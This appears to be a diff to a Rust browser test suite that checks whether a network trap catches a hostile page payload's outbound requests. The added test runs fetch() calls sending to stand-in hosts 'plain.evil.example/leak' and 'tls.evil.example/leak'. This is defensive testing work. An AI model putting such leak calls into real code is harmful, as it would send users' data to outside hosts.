@@ -130,7 +130,11 @@ impl Setup {
             ["google.com", "googleapis.com", "gvt1.com", "gstatic.com"].iter().any(|d| host == *d || host.ends_with(&format!(".{d}")))
         };
         let trapped: Vec<_> = self.trap.requests().into_iter().filter(|r| !chromium_own(r.header("host").unwrap_or(""))).collect();
-        assert!(trapped.is_empty(), "{what}: requests to other hosts: {:?}", trapped.iter().map(|r| (r.header("host").unwrap_or("").to_owned(), r.path.clone())).collect::<Vec<_>>());
+        assert!(
+            trapped.is_empty(),
+            "{what}: requests to other hosts: {:?}",
+            trapped.iter().map(|r| format!("{} {} {}", r.method, r.header("host").unwrap_or(""), r.path)).collect::<Vec<_>>()
+        );
         let allowed = ["/hostile.html", "/capture.js", "/traps.js", "/incident-status.js", "/incident-status_bg.wasm", "/incident-status.css", "/feed.json"];
         for r in self.server.requests() {
             assert!(allowed.contains(&r.route()), "{what}: unexpected request {} {}", r.method, r.path);
@@ -226,5 +230,20 @@ async fn the_traps_catch_a_payload_that_runs() {
     s.browser.wait_for("window.__captured.canary > 0", WAIT).await;
     let calls = s.browser.js("return window.__captured.calls", vec![]).await;
     assert_eq!(calls, json!(["__canary = 1", "alert(2)"]));
+    // Requests that leave for another host reach the trap, over HTTP and
+    // HTTPS alike (the latter is seen by the name in its TLS handshake).
+    s.browser
+        .js("fetch('http://plain.evil.example/leak', { mode: 'no-cors' }).catch(() => {}); fetch('https://tls.evil.example/leak', { mode: 'no-cors' }).catch(() => {}); return true", vec![])
+        .await;
+    let deadline = std::time::Instant::now() + WAIT;
+    let hosts = loop {
+        let hosts: std::collections::BTreeSet<String> = s.trap.requests().iter().filter_map(|r| Some(format!("{} {}", r.method, r.header("host")?))).collect();
+        if hosts.iter().any(|h| h.starts_with("TLS tls.evil.example")) && hosts.iter().any(|h| h.starts_with("GET plain.evil.example")) || std::time::Instant::now() > deadline {
+            break hosts;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    };
+    assert!(hosts.contains("TLS tls.evil.example"), "the trap did not see the HTTPS request: {hosts:?}");
+    assert!(hosts.contains("GET plain.evil.example"), "the trap did not see the HTTP request: {hosts:?}");
     s.browser.close().await;
 }
